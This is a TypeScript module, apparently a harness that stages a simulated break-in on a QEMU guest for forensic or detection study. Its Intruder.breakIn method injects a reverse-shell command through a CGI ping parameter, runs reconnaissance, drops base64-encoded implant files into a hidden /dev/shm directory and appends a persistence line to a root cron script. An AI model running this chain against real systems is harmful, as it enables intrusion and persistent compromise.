import { type ChildProcess, spawn } from 'node:child_process';
import { createHmac } from 'node:crypto';
import { createServer, get } from 'node:http';
import { connect, createServer as createTcpServer, type Server, type Socket } from 'node:net';
import type { Readable, Writable } from 'node:stream';
import { setTimeout as delay } from 'node:timers/promises';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import type { HostTools, IntrudersFiles } from './web-1.ts';
import { addresses } from './web-1.ts';

/** A conversation in lines of text with a shell, whatever carries it. */
export class Conversation {
  #heard = '';
  readonly #output: Writable;

  constructor(input: Readable, output: Writable) {
    this.#output = output;
    input.setEncoding('latin1');
    input.on('data', (text: string) => {
      this.#heard += text;
    });
    output.on('error', () => undefined); // the guest has ended, or hung up: whoever waits is told by the time-out
  }

  say(line: string): void {
    this.#output.write(`${line}\n`);
  }

  /** Waits until a word is heard that was not heard before this call. */
  async hear(word: string, timeoutMs = 60_000): Promise<void> {
    const deadline = Date.now() + timeoutMs;
    while (!this.#heard.includes(word)) {
      if (Date.now() > deadline) throw new Error(`no ${word} was heard, but ${this.#heard.slice(-400)}`);
      await delay(100);
    }
    this.#heard = '';
  }
}

/** The root shell on the guest's second serial line. */
export async function openConsole(path: string): Promise<Conversation & { close(): void }> {
  const socket = connect(path);
  await new Promise((resolve, reject) => socket.once('connect', resolve).once('error', reject));
  return Object.assign(new Conversation(socket, socket), { close: () => socket.destroy() });
}

/** A free port of the host's own loopback address. */
export async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  await new Promise((resolve) => server.close(resolve));
  if (address === null || typeof address === 'string') throw new Error('the host gave no port');
  return address.port;
}

/** The load balancer keeps one TLS connection to web-1 open. It knows the connection's keys. */
export class LoadBalancer {
  readonly keys: string[] = [];
  #socket: TLSSocket | undefined;

  async connect(port: number): Promise<void> {
    const socket = connectTls({ host: '127.0.0.1', port, rejectUnauthorized: false, minVersion: 'TLSv1.3' });
    this.#socket = socket;
    socket.on('keylog', (line: Buffer) => {
      const [label, , secret] = line.toString('latin1').trim().split(' ');
      if (label?.endsWith('_TRAFFIC_SECRET_0') && secret) this.keys.push(trafficKey(secret));
    });
    socket.on('error', () => undefined);
    await new Promise((resolve, reject) => socket.once('secureConnect', resolve).once('error', reject));
    const { name } = socket.getCipher();
    if (name !== 'TLS_AES_256_GCM_SHA384') throw new Error(`the connection uses ${name}`);
  }

  close(): void {
    this.#socket?.destroy();
  }
}

/** A key of AES-256-GCM from a traffic secret (RFC 8446, 7.3: HKDF-Expand-Label(secret, "key", "", 32)). */
function trafficKey(secret: string): string {
  const label = Buffer.from('tls13 key', 'latin1');
  const info = Buffer.concat([Buffer.from([0, 32, label.length]), label, Buffer.from([0, 1])]);
  return createHmac('sha384', Buffer.from(secret, 'hex')).update(info).digest('hex').slice(0, 64);
}

/** Alice, who works on web-1 over SSH from the bastion. */
export class Administrator {
  readonly #child: ChildProcess;
  readonly shell: Conversation;

  constructor(tools: HostTools, port: number, identity: string, home: string) {
    const args = ['-t', '-y', '-y', '-i', identity, '-p', String(port), 'alice@127.0.0.1'];
    const words = tools.command('dbclient', ...args).map((word) => `'${word}'`);
    // The client insists on a terminal: script(1) gives it one.
    const child = spawn('script', ['-qec', words.join(' '), '/dev/null'], {
      env: { PATH: process.env['PATH'], HOME: home, TERM: 'xterm', USER: 'alice' },
      stdio: ['pipe', 'pipe', 'ignore'],
    });
    this.#child = child;
    this.shell = new Conversation(child.stdout, child.stdin);
  }

  close(): void {
    this.#child.kill();
  }
}

/** The intruder, at whose port the reverse shell arrives. */
export class Intruder {
  readonly #server: Server;
  readonly port: number;
  #shell: Conversation | undefined;
  #socket: Socket | undefined;

  private constructor(server: Server, port: number) {
    this.#server = server;
    this.port = port;
    server.on('connection', (socket) => {
      this.#socket = socket;
      this.#shell = new Conversation(socket, socket);
    });
  }

  static async wait(): Promise<Intruder> {
    const server = createTcpServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    if (address === null || typeof address === 'string') throw new Error('the host gave no port');
    return new Intruder(server, address.port);
  }

  /** Everything that happens between the two snapshots. Root's part is cron's: it takes up to a minute. */
  async breakIn(webPort: number, files: IntrudersFiles): Promise<void> {
    const reverse = `setsid bash -c 'exec bash -i <>/dev/tcp/${addresses.intruder}/4444 >&0 2>&1' &`;
    const query = encodeURIComponent(`${addresses.loadBalancer} >/dev/null; ${reverse}`);
    get({ host: '127.0.0.1', port: webPort, path: `/cgi-bin/ping?host=${query}` }, (response) =>
      response.resume(),
    ).on('error', () => undefined);
    const shell = this.#shell;
    if (shell === undefined) throw new Error('QEMU has not connected to the intruder');
    await shell.hear('$ ');
    for (const line of ['id', 'uname -a', 'ls -la /opt/web', 'cat /opt/web/rotate.sh']) {
      shell.say(line);
      await delay(2_000);
    }
    shell.say('mkdir -p /dev/shm/.cache && cd /dev/shm/.cache');
    for (const [name, content] of [
      ['kw', files.implant],
      ['key', files.library],
      ['up', Buffer.from(files.script)],
    ] as const) {
      shell.say(`base64 -d >${name} <<'.'\n${lines(content.toString('base64'))}\n.`);
    }
    shell.say('chmod +x kw up; cd /');
    shell.say('echo "setsid /dev/shm/.cache/up </dev/null >/dev/null 2>&1 & # shm" >>/opt/web/rotate.sh');
    shell.say('until [ -e /tmp/.done ]; do sleep 1; done; echo all is d""one');
    await shell.hear('all is done', 240_000);
  }

  close(): void {
    this.#socket?.destroy();
    this.#server.close();
  }
}

const lines = (text: string): string => text.replace(/.{76}/g, '$&\n');
